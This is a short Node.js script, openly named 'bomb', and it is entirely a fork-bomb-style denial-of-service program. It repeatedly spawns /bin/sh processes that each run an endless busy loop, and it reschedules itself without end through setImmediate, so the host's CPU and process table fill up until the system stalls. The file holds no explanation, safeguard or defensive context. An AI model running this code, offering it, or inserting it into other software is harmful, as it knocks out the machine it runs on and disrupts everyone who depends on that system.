const { spawn } = require('node:child_process');
function bomb() {
  const child = spawn('/bin/sh', ['-c', 'while :; do :; done']);
  child.on('error', () => process.exit(1));
  setImmediate(bomb);
}
bomb();
